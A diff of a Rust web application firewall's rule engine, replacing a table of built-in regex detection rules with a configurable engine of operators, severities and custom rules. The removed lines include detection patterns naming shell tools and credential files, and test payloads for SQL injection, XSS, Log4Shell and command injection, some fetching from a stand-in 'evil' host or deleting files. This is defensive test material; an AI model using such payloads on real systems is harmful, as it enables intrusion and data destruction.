@@ -1,54 +1,93 @@
-//! Built-in detection rules.
+//! The rule engine: target kinds, operators, severities and compiled rules.
 //!
-//! Each rule has a stable id that appears in events and in block responses,
-//! and a set of target kinds it applies to. Its regex runs over a value after
-//! [`crate::decode::normalize`], so patterns are written in lower case and
-//! need no encoded variants. Rules run in table order and the first match wins.
+//! A rule has a stable id that appears in events and block responses, a
+//! severity that sets its anomaly score, a paranoia level, the target kinds
+//! it inspects, a chain of [`Transform`]s and one operator. The built-in rule
+//! set is in [`crate::ruleset`]; configurations add custom rules with
+//! [`CustomRuleSection`].
 
+use crate::decode::Transform;
 use crate::error::Error;
+use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 use regex_lite::Regex;
+use serde::Deserialize;
+use std::ops::Range;
 
 /// The kind of request value that a rule inspects.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
+#[serde(rename_all = "snake_case")]
 pub enum TargetKind {
-    /// The `:path` value before `?`.
+    /// The `:method` value.
+    Method,
+    /// The `:path` value before `?`, undecoded.
     Path,
-    /// The name of a query argument.
-    QueryName,
-    /// The value of a query argument.
-    QueryValue,
+    /// The query string after `?`, undecoded.
+    QueryString,
+    /// The name of an argument: query, form, JSON key path or multipart
+    /// field, decoded once.
+    ArgName,
+    /// The value of an argument: query, form, JSON string or number, or
+    /// multipart field, decoded once.
+    ArgValue,
+    /// The name of a request header other than pseudo-headers.
+    HeaderName,
     /// The value of a request header other than `:path` and `cookie`.
-    Header,
+    HeaderValue,
     /// The name of a cookie.
     CookieName,
     /// The value of a cookie.
     CookieValue,
-    /// The name of a field in a form-urlencoded body.
-    FormName,
-    /// The value of a field in a form-urlencoded body.
-    FormValue,
-    /// A request body that is not form-urlencoded, as a whole.
+    /// The file name of a multipart part.
+    FileName,
+    /// A request body whose content type is not parsed into arguments, up to
+    /// the buffered size.
     Body,
 }
 
 impl TargetKind {
-    const fn bit(self) -> u16 {
-        match self {
-            TargetKind::Path => 1,
-            TargetKind::QueryName => 1 << 1,
-            TargetKind::QueryValue => 1 << 2,
-            TargetKind::Header => 1 << 3,
-            TargetKind::CookieName => 1 << 4,
-            TargetKind::CookieValue => 1 << 5,
-            TargetKind::FormName => 1 << 6,
-            TargetKind::FormValue => 1 << 7,
-            TargetKind::Body => 1 << 8,
-        }
+    /// Returns the bit of this kind in a rule's scope.
+    pub const fn bit(self) -> u16 {
+        1 << self as u16
     }
 }
 
+/// Scope bits of every argument, header and cookie target.
+pub const ARGS: u16 = TargetKind::ArgName.bit() | TargetKind::ArgValue.bit();
+/// Scope bits of every value that a client controls freely.
+pub const ALL_VALUES: u16 = ARGS
+    | TargetKind::Path.bit()
+    | TargetKind::HeaderValue.bit()
+    | TargetKind::CookieName.bit()
+    | TargetKind::CookieValue.bit()
+    | TargetKind::FileName.bit()
+    | TargetKind::Body.bit();
+
+/// Request headers whose values follow a fixed grammar of tokens, numbers
+/// and quality values. Built-in rules other than the Log4Shell ones skip them,
+/// because applications do not pass them to interpreters and the `accept`
+/// value alone contains `/*`, `;` and `=` in nearly every request.
+pub const STRUCTURED_HEADERS: &[&str] = &[
+    "accept",
+    "accept-encoding",
+    "cache-control",
+    "connection",
+    "content-length",
+    "dnt",
+    "keep-alive",
+    "pragma",
+    "priority",
+    "proxy-connection",
+    "sec-fetch-dest",
+    "sec-fetch-mode",
+    "sec-fetch-site",
+    "sec-fetch-user",
+    "te",
+    "upgrade-insecure-requests",
+];
+
 /// Seriousness of a rule match.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
+#[serde(rename_all = "lowercase")]
 pub enum Severity {
     /// Suspicious but rarely harmful on its own.
     Low,
@@ -71,6 +110,17 @@ impl Severity {
             Severity::Critical => 99,
         }
     }
+
+    /// Returns the anomaly points that a match adds to the request's score:
+    /// low 2, medium 3, high 4, critical 5.
+    pub const fn anomaly_points(self) -> u32 {
+        match self {
+            Severity::Low => 2,
+            Severity::Medium => 3,
+            Severity::High => 4,
+            Severity::Critical => 5,
+        }
+    }
 }
 
 /// The identity of a rule, as events and block responses report it.
@@ -84,472 +134,322 @@ pub struct RuleInfo {
     pub severity: Severity,
 }
 
+/// How a rule tests a transformed value.
+#[derive(Debug, Clone)]
+pub enum Operator {
+    /// A regex, run only when the value contains one of the prefilter
+    /// literals (or always when there are none).
+    Regex {
+        /// Literals of which at least one must occur, matched as given.
+        prefilter: Option<AhoCorasick>,
+        /// Whether a prefilter literal counts only where it starts a word
+        /// and no ASCII letter follows it, so `cat` passes `cat5` and
+        /// `;cat` but not `category`.
+        word_start: bool,
+        /// The pattern, which runs in time linear in the value.
+        regex: Regex,
+    },
+    /// A set of phrases matched with Aho-Corasick. With `word` set, a phrase
+    /// matches only between non-alphanumeric characters.
+    Phrases {
+        /// The phrase automaton.
+        matcher: AhoCorasick,
+        /// Whether a phrase must stand as a whole word.
+        word: bool,
+    },
+    /// The libinjection SQL tokenizer and fingerprint check.
+    Sqli,
+    /// The libinjection HTML5 tokenizer check for script contexts.
+    Xss,
+}
+
 /// A compiled rule.
 #[derive(Debug, Clone)]
 pub struct Rule {
     /// Identity of the rule.
     pub info: RuleInfo,
+    /// Lowest paranoia level at which the rule runs, 1 to 4.
+    pub paranoia: u8,
+    /// Index of the rule's transform chain in the filter's chain table.
+    pub chain: usize,
     scope: u16,
-    prefilter: &'static [&'static str],
-    regex: Regex,
+    /// Lower-case target names the rule is limited to, such as
+    /// `user-agent`; empty means every name.
+    names: Vec<String>,
+    /// Whether the rule skips the headers in [`STRUCTURED_HEADERS`].
+    skip_structured: bool,
+    operator: Operator,
 }
 
 impl Rule {
-    /// Tells whether the rule inspects values of `kind`.
-    pub fn applies_to(&self, kind: TargetKind) -> bool {
+    /// Tells whether the rule inspects a value of `kind` named `name`.
+    pub fn applies_to(&self, kind: TargetKind, name: &str) -> bool {
         self.scope & kind.bit() != 0
+            && (self.names.is_empty() || self.names.iter().any(|wanted| wanted == name))
+            && !(self.skip_structured
+                && kind == TargetKind::HeaderValue
+                && STRUCTURED_HEADERS.contains(&name))
     }
 
-    /// Returns the first match in a normalized value, as a byte range.
-    ///
-    /// A value that contains none of the rule's prefilter literals is skipped
-    /// without running the regex.
-    pub fn find(&self, normalized: &str) -> Option<std::ops::Range<usize>> {
-        let candidate = self.prefilter.is_empty()
-            || self
-                .prefilter
-                .iter()
-                .any(|literal| normalized.contains(literal));
-        if !candidate {
-            return None;
-        }
-        self.regex.find(normalized).map(|found| found.range())
-    }
-}
-
-struct RuleSpec {
-    info: RuleInfo,
-    scope: u16,
-    prefilter: &'static [&'static str],
-    pattern: &'static str,
-}
-
-const ALL: u16 = (1 << 9) - 1;
-const ALL_BUT_BODY: u16 = ALL & !TargetKind::Body.bit();
-const ALL_BUT_FREE_TEXT: u16 = ALL & !(TargetKind::Body.bit() | TargetKind::FormValue.bit());
-const URL: u16 = TargetKind::Path.bit() | TargetKind::QueryValue.bit();
-
-/// Commands that injection payloads typically run, with an optional
-/// `/bin/` or `/usr/bin/` prefix.
-macro_rules! command {
-    () => {
-        r"(?:/(?:usr/)?bin/)?(?:cat|wget|curl|nc|ncat|netcat|sh|bash|zsh|dash|ksh|id|whoami|uname|ping|nslookup|python[23]?|perl|php|ruby|rm|chmod|telnet|tftp)"
-    };
-}
-
-/// Arguments that follow a command name in a payload: a flag, a path, a home or
-/// variable reference, an IPv4 address or `${IFS}`. Ordinary prose such as
-/// "dogs; cat people" has none of these after the command.
-macro_rules! command_arguments {
-    () => {
-        r"(?:\s+[-~.$]|\s+\S*/|\s+\d{1,3}\.\d{1,3}\.|\$\{ifs\})"
-    };
-}
-
-const RULE_SPECS: &[RuleSpec] = &[
-    RuleSpec {
-        info: RuleInfo {
-            id: "traversal-dot-segment",
-            name: "Path traversal with a dot-dot segment",
-            severity: Severity::High,
-        },
-        // Raw bodies are left out because code in JSON bodies often contains
-        // relative imports such as "../lib".
-        scope: ALL_BUT_BODY,
-        prefilter: &[".."],
-        pattern: r"(?:^|[/\\])\.\.(?:[/\\]|$)",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "traversal-sensitive-file",
-            name: "Access to a sensitive system file",
-            severity: Severity::High,
-        },
-        scope: ALL,
-        prefilter: &["/etc/", "win.ini", "/proc/self/"],
-        pattern: r"/etc/(?:passwd|shadow)\b|\bwin\.ini\b|/proc/self/(?:environ|cmdline|mem)\b",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "sqli-union-select",
-            name: "SQL injection with UNION SELECT",
-            severity: Severity::High,
-        },
-        scope: ALL,
-        prefilter: &["union"],
-        pattern: r"\bunion(?:\s|\(|/\*.*?\*/)+(?:(?:all|distinct)(?:\s|\(|/\*.*?\*/)+)?select\b",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "sqli-tautology",
-            name: "SQL injection with a tautology or a comment after a quote",
-            severity: Severity::High,
-        },
-        scope: ALL,
-        prefilter: &["'", "\"", "or"],
-        pattern: r#"['"]\s*\)*\s*(?:or|and|xor)\b\s*\(*\s*['"]?[\w-]*['"]?\s*(?:=|<>|!=|<|>|\blike\b|\bis\b)|['"]\s*\)*\s*(?:--(?:\s|$)|/\*)|\bor\s+\d+\s*=\s*\d+\b"#,
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "sqli-stacked-query",
-            name: "SQL injection with a stacked DROP or TRUNCATE",
-            severity: Severity::High,
-        },
-        scope: ALL,
-        prefilter: &[";"],
-        pattern: r";\s*(?:drop|truncate)\s+(?:table|database|schema)\b",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "sqli-time-delay",
-            name: "Time-based blind SQL injection",
-            severity: Severity::High,
-        },
-        scope: ALL,
-        prefilter: &["sleep", "benchmark", "waitfor"],
-        pattern: r#"\b(?:and|or|select|where|union|if)\b[\s(]*(?:sleep|pg_sleep|benchmark)\s*\(|['"]\s*\)*\s*(?:;|\|\||&&)\s*(?:select\s+)?(?:sleep|pg_sleep|benchmark)\s*\(|\bwaitfor\s+delay\s+'"#,
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "xss-script-tag",
-            name: "Cross-site scripting with a script tag",
-            severity: Severity::Medium,
-        },
-        scope: ALL,
-        prefilter: &["script"],
-        pattern: r"<\s*script\b",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "xss-javascript-uri",
-            name: "Cross-site scripting with a javascript: URI",
-            severity: Severity::Medium,
-        },
-        scope: ALL,
-        prefilter: &["javascript"],
-        // Requires code after the scheme, so a title like
-        // "JavaScript: The Good Parts" passes.
-        pattern: r#"javascript\s*:\s*(?:[\w.$\[\]]+\s*[(=`]|[/'"(])"#,
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "xss-svg-onload",
-            name: "Cross-site scripting with an svg onload handler",
-            severity: Severity::Medium,
-        },
-        scope: ALL,
-        prefilter: &["svg"],
-        pattern: r#"<\s*svg\b[^>]*?[\s/"']onload\s*="#,
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "xss-event-handler",
-            name: "Cross-site scripting with an event handler attribute",
-            severity: Severity::Medium,
-        },
-        scope: ALL,
-        prefilter: &["<"],
-        pattern: r#"<\s*[a-z][\w:-]*[^>]*?[\s/"']on[a-z]{3,}\s*="#,
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "xss-iframe",
-            name: "Cross-site scripting with an iframe tag",
-            severity: Severity::Medium,
-        },
-        scope: ALL,
-        prefilter: &["iframe"],
-        pattern: r"<\s*iframe\b",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "cmdi-chained-command",
-            name: "Command injection after a shell separator",
-            severity: Severity::Critical,
-        },
-        scope: ALL,
-        prefilter: &[";", "|", "&&"],
-        pattern: concat!(
-            r"(?:;|\|\|?|&&)\s*",
-            command!(),
-            r"(?:",
-            command_arguments!(),
-            r"|\s*$|\s*[;&<>`)$])"
-        ),
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "cmdi-command-substitution",
-            name: "Command injection with command substitution",
-            severity: Severity::Critical,
-        },
-        scope: ALL,
-        prefilter: &["$(", "`"],
-        pattern: concat!(
-            r"\$\(\s*",
-            command!(),
-            r"(?:",
-            command_arguments!(),
-            r"|\s*\))|`\s*",
-            command!(),
-            command_arguments!()
-        ),
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "cmdi-backtick-command",
-            name: "Command injection with a bare backtick command",
-            severity: Severity::Critical,
-        },
-        // Body text and form values are left out because Markdown writes
-        // code spans such as `id` or `curl` the same way.
-        scope: ALL_BUT_FREE_TEXT,
-        prefilter: &["`"],
-        pattern: concat!(r"`\s*", command!(), r"\s*`"),
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "log4shell-jndi",
-            name: "Log4Shell JNDI lookup",
-            severity: Severity::Critical,
-        },
-        scope: ALL,
-        prefilter: &["${"],
-        pattern: r"\$\{\s*jndi\s*:",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "log4shell-nested-lookup",
-            name: "Log4Shell nested lookup",
-            severity: Severity::Critical,
-        },
-        scope: ALL,
-        prefilter: &["${"],
-        // A lookup inside a lookup, such as ${${lower:j}ndi:...} or
-        // ${${::-j}...}. Nested JavaScript template literals have no `:` or
-        // `-` right inside the inner braces, so they pass.
-        pattern: r"\$\{[^}]*\$\{[^}]*[:-]",
-    },
-    RuleSpec {
-        info: RuleInfo {
-            id: "crlf-injection",
-            name: "CRLF injection",
-            severity: Severity::Medium,
-        },
-        scope: URL,
-        prefilter: &["\r", "\n"],
-        pattern: r"[\r\n]+[^\r\n]{0,32}",
-    },
-];
-
-/// Compiles the built-in rules, in the order they run.
-pub fn builtin_rules() -> Result<Vec<Rule>, Error> {
-    RULE_SPECS
-        .iter()
-        .map(|spec| {
-            let regex = Regex::new(spec.pattern).map_err(|error| Error::InvalidRule {
-                id: spec.info.id,
-                message: error.to_string(),
-            })?;
-            Ok(Rule {
-                info: spec.info,
-                scope: spec.scope,
-                prefilter: spec.prefilter,
+    /// Returns the first match in a transformed value, as a byte range of
+    /// `text`.
+    pub fn find(&self, text: &str) -> Option<Range<usize>> {
+        match &self.operator {
+            Operator::Regex {
+                prefilter,
+                word_start,
                 regex,
-            })
-        })
-        .collect()
+            } => {
+                let bytes = text.as_bytes();
+                let passes = |prefilter: &AhoCorasick| {
+                    if *word_start {
+                        prefilter
+                            .find_overlapping_iter(text)
+                            .any(|found| is_word_start(bytes, found.start(), found.end()))
+                    } else {
+                        prefilter.is_match(text)
+                    }
+                };
+                if prefilter.as_ref().is_some_and(|prefilter| !passes(prefilter)) {
+                    return None;
+                }
+                regex.find(text).map(|found| found.range())
+            }
+            Operator::Phrases { matcher, word } => {
+                let bytes = text.as_bytes();
+                matcher
+                    .find_iter(text)
+                    .map(|found| found.range())
+                    .find(|found| !*word || is_word_at(bytes, found.start, found.end))
+            }
+            Operator::Sqli => libinjectionrs::detect_sqli(text.as_bytes())
+                .is_injection()
+                .then_some(0..text.len()),
+            Operator::Xss => libinjectionrs::detect_xss(text.as_bytes())
+                .is_injection()
+                .then_some(0..text.len()),
+        }
+    }
+}
+
+fn is_word_start(bytes: &[u8], start: usize, end: usize) -> bool {
+    let before = start == 0 || !bytes[start - 1].is_ascii_alphanumeric();
+    let after = end >= bytes.len() || !bytes[end].is_ascii_alphabetic();
+    before && after
+}
+
+fn is_word_at(bytes: &[u8], start: usize, end: usize) -> bool {
+    let before = start == 0 || !bytes[start - 1].is_ascii_alphanumeric();
+    let after = end >= bytes.len() || !bytes[end].is_ascii_alphanumeric();
+    before && after
+}
+
+/// How a rule spec names its test.
+#[derive(Debug, Clone, Copy)]
+pub enum Test {
+    /// A regex with prefilter literals.
+    Regex(&'static [&'static str], &'static str),
+    /// A regex with prefilter literals that count only as words, with
+    /// digits allowed after them, for long lists of command names.
+    WordRegex(&'static [&'static str], &'static str),
+    /// Phrases anywhere in the value.
+    Phrases(&'static [&'static str]),
+    /// Phrases standing as whole words.
+    Words(&'static [&'static str]),
+    /// The libinjection SQL check.
+    Sqli,
+    /// The libinjection XSS check.
+    Xss,
+}
+
+/// A built-in rule as written in [`crate::ruleset`].
+#[derive(Debug, Clone, Copy)]
+pub struct RuleSpec {
+    /// Identity of the rule.
+    pub info: RuleInfo,
+    /// Lowest paranoia level at which the rule runs.
+    pub paranoia: u8,
+    /// Target kinds, as [`TargetKind::bit`] values.
+    pub scope: u16,
+    /// Lower-case target names the rule is limited to.
+    pub names: &'static [&'static str],
+    /// Whether the rule skips the headers in [`STRUCTURED_HEADERS`].
+    pub skip_structured: bool,
+    /// Transform chain applied before the test.
+    pub transforms: &'static [Transform],
+    /// The test.
+    pub test: Test,
+}
+
+/// A custom rule in the `filter.rules` list of the configuration.
+#[derive(Debug, Clone, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub(crate) struct CustomRuleSection {
+    id: String,
+    #[serde(default)]
+    name: Option<String>,
+    #[serde(default = "default_severity")]
+    severity: Severity,
+    #[serde(default = "default_paranoia")]
+    paranoia: u8,
+    targets: Vec<TargetKind>,
+    #[serde(default)]
+    names: Vec<String>,
+    #[serde(default)]
+    transforms: Vec<Transform>,
+    #[serde(default)]
+    regex: Option<String>,
+    #[serde(default)]
+    phrases: Vec<String>,
+}
+
+fn default_severity() -> Severity {
+    Severity::Critical
+}
+
+fn default_paranoia() -> u8 {
+    1
+}
+
+/// A rule before its transform chain is entered in the chain table.
+pub(crate) struct Uncompiled {
+    pub(crate) rule: Rule,
+    pub(crate) transforms: Vec<Transform>,
+}
+
+fn phrase_matcher(phrases: &[impl AsRef<[u8]>]) -> Result<AhoCorasick, String> {
+    AhoCorasickBuilder::new()
+        .match_kind(MatchKind::Standard)
+        .build(phrases)
+        .map_err(|error| error.to_string())
+}
+
+/// Compiles one built-in rule spec.
+pub(crate) fn compile_spec(spec: &RuleSpec) -> Result<Uncompiled, Error> {
+    let fail = |message: String| Error::InvalidRule {
+        id: spec.info.id,
+        message,
+    };
+    let operator = match spec.test {
+        Test::Regex(prefilter, pattern) | Test::WordRegex(prefilter, pattern) => {
+            Operator::Regex {
+                prefilter: if prefilter.is_empty() {
+                    None
+                } else {
+                    Some(phrase_matcher(prefilter).map_err(fail)?)
+                },
+                word_start: matches!(spec.test, Test::WordRegex(..)),
+                regex: Regex::new(pattern).map_err(|error| fail(error.to_string()))?,
+            }
+        }
+        Test::Phrases(phrases) => Operator::Phrases {
+            matcher: phrase_matcher(phrases).map_err(fail)?,
+            word: false,
+        },
+        Test::Words(phrases) => Operator::Phrases {
+            matcher: phrase_matcher(phrases).map_err(fail)?,
+            word: true,
+        },
+        Test::Sqli => Operator::Sqli,
+        Test::Xss => Operator::Xss,
+    };
+    Ok(Uncompiled {
+        rule: Rule {
+            info: spec.info,
+            paranoia: spec.paranoia,
+            chain: 0,
+            scope: spec.scope,
+            names: spec.names.iter().map(|name| name.to_string()).collect(),
+            skip_structured: spec.skip_structured,
+            operator,
+        },
+        transforms: spec.transforms.to_vec(),
+    })
+}
+
+/// Compiles one custom rule; `path` is its JSON path for errors.
+///
+/// NOTE: the id and name are leaked to get `&'static str`, so each
+/// reconfiguration keeps a few bytes per custom rule for the life of the VM.
+pub(crate) fn compile_custom(section: &CustomRuleSection, path: &str) -> Result<Uncompiled, Error> {
+    if section.id.is_empty()
+        || !section
+            .id
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b'.')
+    {
+        return Err(Error::invalid(
+            format!("{path}.id"),
+            format!(
+                "must be letters, digits, '-', '_' or '.', got {:?}",
+                section.id
+            ),
+        ));
+    }
+    if !(1..=4).contains(&section.paranoia) {
+        return Err(Error::invalid(
+            format!("{path}.paranoia"),
+            format!("must be 1 to 4, got {}", section.paranoia),
+        ));
+    }
+    if section.targets.is_empty() {
+        return Err(Error::invalid(
+            format!("{path}.targets"),
+            "must name at least one target kind",
+        ));
+    }
+    let operator = match (&section.regex, section.phrases.is_empty()) {
+        (Some(pattern), true) => Operator::Regex {
+            prefilter: None,
+            word_start: false,
+            regex: Regex::new(pattern).map_err(|error| {
+                Error::invalid(format!("{path}.regex"), format!("invalid regex: {error}"))
+            })?,
+        },
+        (None, false) => Operator::Phrases {
+            matcher: phrase_matcher(&section.phrases)
+                .map_err(|error| Error::invalid(format!("{path}.phrases"), error))?,
+            word: false,
+        },
+        _ => {
+            return Err(Error::invalid(
+                path.to_string(),
+                "needs exactly one of `regex` and `phrases`",
+            ))
+        }
+    };
+    let id: &'static str = Box::leak(section.id.clone().into_boxed_str());
+    let name: &'static str = Box::leak(
+        section
+            .name
+            .clone()
+            .unwrap_or_else(|| format!("Custom rule {}", section.id))
+            .into_boxed_str(),
+    );
+    Ok(Uncompiled {
+        rule: Rule {
+            info: RuleInfo {
+                id,
+                name,
+                severity: section.severity,
+            },
+            paranoia: section.paranoia,
+            chain: 0,
+            scope: section
+                .targets
+                .iter()
+                .fold(0, |scope, kind| scope | kind.bit()),
+            names: section
+                .names
+                .iter()
+                .map(|name| name.to_ascii_lowercase())
+                .collect(),
+            skip_structured: false,
+            operator,
+        },
+        transforms: section.transforms.clone(),
+    })
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::decode::{normalize, Plus};
-
-    fn rules() -> Vec<Rule> {
-        match builtin_rules() {
-            Ok(rules) => rules,
-            Err(error) => panic!("{error}"),
-        }
-    }
-
-    /// Returns the id of the first rule that matches `raw` as `kind`.
-    fn first_match(rules: &[Rule], kind: TargetKind, raw: &str) -> Option<&'static str> {
-        let normalized = normalize(raw.as_bytes(), Plus::Space);
-        rules
-            .iter()
-            .filter(|rule| rule.applies_to(kind))
-            .find(|rule| rule.find(&normalized).is_some())
-            .map(|rule| rule.info.id)
-    }
-
-    #[test]
-    fn builtin_rules_compile() {
-        assert_eq!(rules().len(), RULE_SPECS.len());
-    }
-
-    #[test]
-    fn rule_ids_are_unique() {
-        let rules = rules();
-        let mut ids: Vec<_> = rules.iter().map(|rule| rule.info.id).collect();
-        ids.sort_unstable();
-        ids.dedup();
-        assert_eq!(ids.len(), rules.len());
-    }
-
-    #[test]
-    fn attacks_match_expected_rule() {
-        let rules = rules();
-        let cases = [
-            ("../../etc/shadow", "traversal-dot-segment"),
-            ("..\\..\\windows", "traversal-dot-segment"),
-            ("%2e%2e%2f%2e%2e%2f", "traversal-dot-segment"),
-            ("%252e%252e%252fboot", "traversal-dot-segment"),
-            ("file:///etc/passwd", "traversal-sensitive-file"),
-            ("c:\\windows\\win.ini", "traversal-sensitive-file"),
-            ("1 UNION SELECT password FROM users", "sqli-union-select"),
-            ("1 union all select 1,2", "sqli-union-select"),
-            ("1/**/union/**/select/**/1", "sqli-union-select"),
-            ("1+union+select+1", "sqli-union-select"),
-            ("' or 1=1--", "sqli-tautology"),
-            ("admin' OR 'a'='a", "sqli-tautology"),
-            ("x') or ('1'='1", "sqli-tautology"),
-            ("admin'--", "sqli-tautology"),
-            ("1 or 2=2", "sqli-tautology"),
-            ("1; DROP TABLE users", "sqli-stacked-query"),
-            ("1 and sleep(5)", "sqli-time-delay"),
-            ("1) or benchmark(1000000,md5(1))", "sqli-time-delay"),
-            ("x';select pg_sleep(10)", "sqli-time-delay"),
-            ("1'; waitfor delay '0:0:5'", "sqli-time-delay"),
-            ("<script>alert(1)</script>", "xss-script-tag"),
-            ("%3Cscript%3E", "xss-script-tag"),
-            ("< ScRiPt src=//x>", "xss-script-tag"),
-            ("javascript:alert(1)", "xss-javascript-uri"),
-            ("JavaScript:window.location='x'", "xss-javascript-uri"),
-            ("javascript://%0aalert(1)", "xss-javascript-uri"),
-            ("<svg/onload=alert(1)>", "xss-svg-onload"),
-            ("<svg xmlns=x onload = alert(1)>", "xss-svg-onload"),
-            ("<img src=x onerror=alert(1)>", "xss-event-handler"),
-            ("<body onload=alert(1)>", "xss-event-handler"),
-            ("<a href=# onclick=\"x()\">", "xss-event-handler"),
-            ("<iframe src=//evil>", "xss-iframe"),
-            ("; cat /etc/hostname", "cmdi-chained-command"),
-            ("x|id", "cmdi-chained-command"),
-            ("1 && curl http://evil/x.sh", "cmdi-chained-command"),
-            ("a;wget 198.51.100.7/x", "cmdi-chained-command"),
-            ("|| rm -rf ~", "cmdi-chained-command"),
-            ("; cat${IFS}x", "cmdi-chained-command"),
-            ("x;/bin/sh", "cmdi-chained-command"),
-            ("$(whoami)", "cmdi-command-substitution"),
-            ("$(curl -s evil)", "cmdi-command-substitution"),
-            ("`cat /etc/hostname`", "cmdi-command-substitution"),
-            ("`id`", "cmdi-backtick-command"),
-            ("${jndi:ldap://evil/a}", "log4shell-jndi"),
-            ("${JNDI:rmi://x}", "log4shell-jndi"),
-            ("${${lower:j}ndi:ldap://x}", "log4shell-nested-lookup"),
-            ("${${::-j}${::-n}di:x}", "log4shell-nested-lookup"),
-        ];
-        for (payload, expected) in cases {
-            assert_eq!(
-                first_match(&rules, TargetKind::QueryValue, payload),
-                Some(expected),
-                "payload {payload:?}"
-            );
-        }
-    }
-
-    #[test]
-    fn crlf_matches_only_url_targets() {
-        let rules = rules();
-        let payload = "x%0d%0aset-cookie:%20a=b";
-        assert_eq!(
-            first_match(&rules, TargetKind::QueryValue, payload),
-            Some("crlf-injection")
-        );
-        assert_eq!(
-            first_match(&rules, TargetKind::Path, payload),
-            Some("crlf-injection")
-        );
-        assert_eq!(first_match(&rules, TargetKind::FormValue, payload), None);
-        assert_eq!(first_match(&rules, TargetKind::Body, payload), None);
-    }
-
-    #[test]
-    fn ordinary_values_pass() {
-        let rules = rules();
-        let cases = [
-            "select a plan",
-            "Please select your union membership",
-            "The union will select a leader",
-            "O'Reilly",
-            "Rock'n'Roll",
-            "'Oregon' is a state",
-            "wget vs curl",
-            "cats && dogs",
-            "I like dogs; cat people are fine too",
-            "https://example.com/a/b?x=1&y=2",
-            "jane.doe+tag@example.com",
-            "JavaScript: The Good Parts",
-            "1+1=2",
-            "100% cotton",
-            "Tom & Jerry",
-            "a<b and c>d",
-            "so.../ok",
-            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
-            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
-            "en-US,en;q=0.9",
-            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
-            "time.sleep(5)",
-            "${user.name}",
-            "sleep(1000)",
-            "",
-        ];
-        for value in cases {
-            assert_eq!(
-                first_match(&rules, TargetKind::QueryValue, value),
-                None,
-                "value {value:?}"
-            );
-        }
-    }
-
-    #[test]
-    fn code_in_bodies_passes() {
-        let rules = rules();
-        let cases = [
-            r#"{"code":"import x from '../lib/x.js'"}"#,
-            r#"{"code":"const s = `${a ? `${b}` : c}`"}"#,
-            r#"{"doc":"use the `id` field or run `curl`"}"#,
-            r#"{"table":"| id | name |\n|----|------|"}"#,
-            r#"{"code":"for (i = 0; i < n; i++) { total += i; }"}"#,
-            r#"{"query":"SELECT name FROM users WHERE id = ?"}"#,
-            r#"{"or":1,"and":"x"}"#,
-        ];
-        for body in cases {
-            assert_eq!(
-                first_match(&rules, TargetKind::Body, body),
-                None,
-                "body {body:?}"
-            );
-        }
-    }
-
-    #[test]
-    fn prefilter_skips_regex() {
-        let rules = rules();
-        let union = rules
-            .iter()
-            .find(|rule| rule.info.id == "sqli-union-select");
-        let Some(union) = union else {
-            panic!("sqli-union-select is missing");
-        };
-        assert_eq!(union.find("no keyword here"), None);
-        assert_eq!(union.find("1 union select 2"), Some(2..14));
-    }
-
-    #[test]
-    fn severity_scores() {
-        assert_eq!(Severity::Low.score(), 21);
-        assert_eq!(Severity::Critical.score(), 99);
-    }
-}
+mod tests;
